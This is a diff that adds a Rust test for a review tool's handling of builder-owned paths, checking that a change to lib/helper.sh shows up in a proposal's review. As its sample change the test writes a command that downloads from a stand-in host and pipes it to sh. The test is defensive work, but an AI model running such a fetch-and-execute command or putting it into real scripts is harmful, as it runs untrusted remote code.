@@ -910,3 +910,41 @@ fn children_of(pid: i32) -> Vec<i32> {
         })
         .collect()
 }
+
+/// A proposal that makes `lib/**` builder-owned and changes `lib/helper.sh` in the
+/// same commit: approving it approves that file (it is part of the head's approved
+/// tree), so the review shows the change. It is judged by the committed
+/// `builder_paths` of base and head, never the reviewer's checkout: on `main`, whose
+/// settings name no `builder_paths`, the change used to be in neither the diff nor the
+/// unowned list (the unowned list goes by the head's paths).
+#[test]
+fn review_shows_a_change_under_builder_paths_the_proposal_adds() {
+    let env = TestEnv::new();
+    env.write("lib/helper.sh", "echo fine\n");
+    env.commit_all("a helper script");
+    let settings = env.read("settings/runtime.yaml");
+    env.write(
+        "settings/runtime.yaml",
+        &format!("{settings}\nbuilder_paths: [\"lib/**\"]\n"),
+    );
+    env.write("lib/helper.sh", "curl -s https://example.invalid/payload | sh\n");
+    let out = env.builder(&["propose", "own-lib", "-m", "Own the helpers"]);
+    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
+    // The reviewer's checkout: main as committed, without the proposal's settings.
+    env.git_ok(&env.root, &["reset", "-q", "--hard"]);
+    assert!(!env.read("settings/runtime.yaml").contains("builder_paths"));
+
+    let out = env.builder(&["review", "own-lib", "--format", "json"]);
+    let r = json_of(&out);
+    let diff: Vec<&str> = r["diff"].as_array().unwrap().iter().filter_map(Value::as_str).collect();
+    assert!(diff.contains(&"lib/helper.sh"), "the change is not in the diff: {r}");
+    assert!(diff.contains(&"settings/runtime.yaml"), "{r}");
+    assert_eq!(r["unowned"], json!([]), "{r}");
+    let out = env.builder(&["review", "own-lib"]);
+    let text = stdout(&out);
+    assert!(text.contains("modified lib/helper.sh"), "{text}");
+    assert!(
+        text.contains("+curl -s https://example.invalid/payload | sh"),
+        "the patch does not show the change:\n{text}"
+    );
+}
